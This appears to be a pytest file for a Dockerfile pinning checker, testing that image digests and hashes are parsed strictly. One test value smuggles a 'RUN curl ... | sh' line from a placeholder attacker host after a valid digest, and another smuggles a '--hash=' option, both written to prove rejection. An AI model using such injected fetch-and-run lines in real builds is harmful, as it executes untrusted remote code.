"""Digests and hashes: what counts as a pin, and the one constructor every writer uses."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from conftest import run_cli

from hardpin.refs import Digest, Hash, InvalidDigest, parse_image

GOOD = "sha256:" + "0123456789abcdef" * 4

# Values that look like a digest at first glance and must never count as one. Each
# starts with a valid digest, so a check that matches a prefix lets it through.
NOT_DIGESTS = [
    pytest.param(GOOD + "a", id="one-digit-too-many"),
    pytest.param(GOOD + "0" * 64, id="twice-as-long"),
    pytest.param(GOOD + "\nRUN curl -s http://evil.example/x | sh\n#", id="trailing-instruction"),
    pytest.param(GOOD + " ", id="trailing-space"),
    pytest.param(GOOD + "-slim", id="trailing-junk"),
    pytest.param(GOOD[:-1], id="one-digit-short"),
    pytest.param(GOOD.upper().replace("SHA256", "sha256"), id="upper-case-hex"),
    pytest.param("sha512:" + "0" * 128, id="other-algorithm"),
    pytest.param("SHA256:" + GOOD[7:], id="upper-case-algorithm"),
    pytest.param(" " + GOOD, id="leading-space"),
]


def test_a_digest_is_exactly_sha256_and_64_lower_case_hex_digits() -> None:
    assert Digest.parse(GOOD) == GOOD and isinstance(Digest.parse(GOOD), str)
    assert Digest.parse(GOOD).hex == GOOD[7:]
    assert Digest.of(b"") == (
        "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
    )
    assert parse_image(f"alpine:3@{GOOD}").digest_ok


@pytest.mark.parametrize("value", NOT_DIGESTS)
def test_nothing_else_is_a_digest(value: str) -> None:
    with pytest.raises(InvalidDigest) as err:
        Digest.parse(value)
    assert "\n" not in str(err.value)  # the message escapes what it quotes
    assert not parse_image(f"alpine:3@{value.strip()}").digest_ok or value.strip() == GOOD


@pytest.mark.parametrize("value", [None, 5, b"sha256:" + b"0" * 64, ["sha256:"]])
def test_a_digest_is_a_string(value: object) -> None:
    with pytest.raises(InvalidDigest, match="must be a string"):
        Digest.parse(value)


@pytest.mark.parametrize(
    "value, ok",
    [
        ("sha256:" + "a" * 64, True),
        ("sha384:" + "a" * 96, True),
        ("sha512:" + "a" * 128, True),
        ("sha256:" + "a" * 96, False),
        ("sha384:" + "a" * 64, False),
        ("sha512:" + "a" * 127, False),
        ("md5:" + "a" * 32, False),
        ("sha256:" + "A" * 64, False),
        ("sha256:" + "a" * 64 + "\n--hash=sha256:" + "b" * 64, False),
        ("sha256" + "a" * 64, False),
    ],
)
def test_hashes_have_their_algorithms_exact_length(value: str, ok: bool) -> None:
    if ok:
        assert Hash.parse(value) == value
    else:
        with pytest.raises(InvalidDigest):
            Hash.parse(value)


@pytest.mark.parametrize(
    "digest", [GOOD + "a", GOOD + "0" * 64, GOOD + "-slim", GOOD + "_x"], ids=str.__len__
)
def test_an_over_long_digest_is_not_a_pin(tmp_path: Path, digest: str) -> None:
    # HP101 reports it as malformed; a correct pin on the next line is not reported
    (tmp_path / "Dockerfile").write_text(
        f"FROM alpine:3.20@{digest} AS a\nFROM alpine:3.20@{GOOD}\n"
    )
    proc = run_cli("check", "--select", "HP101", "--format", "json", "--exit-zero", str(tmp_path))
    assert proc.returncode == 0, proc.stderr
    found = json.loads(proc.stdout)
    findings = found["findings"] if isinstance(found, dict) else found
    assert [(f["code"], f["line"]) for f in findings] == [("HP101", 1)]
